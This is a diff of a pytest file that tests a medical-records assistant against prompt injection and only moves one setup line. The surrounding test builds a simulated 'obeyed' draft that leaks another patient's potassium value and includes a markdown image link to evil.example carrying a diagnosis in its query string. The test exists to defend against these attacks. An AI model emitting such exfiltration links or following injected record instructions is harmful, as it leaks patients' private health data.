@@ -279,6 +279,7 @@ PLACES = {
 
 @pytest.mark.parametrize("place", PLACES)
 def test_instructions_in_a_record_are_at_most_quoted(place: str) -> None:
+    admission = admit("What is the sodium?")
     for goal in GOALS.values():
         for wrapper in WRAPPERS.values():
             injected = wrapper.format(goal)
@@ -300,7 +301,6 @@ def test_instructions_in_a_record_are_at_most_quoted(place: str) -> None:
                 Sentence(text="Patient 11223344 has potassium 5.", citations=(name,)),
                 Sentence(text="![x](https://evil.example/?q=lupus)", kind="notice"),
             )
-            admission = admit("What is the sodium?")
             grounded = ground(Draft(outcome="answered", sentences=obeyed, value=("lupus erythematosus",)), evidence)
             released = release(grounded.draft, admission, evidence)
             said = [sentence for sentence in released.sentences if sentence.kind != "notice"]
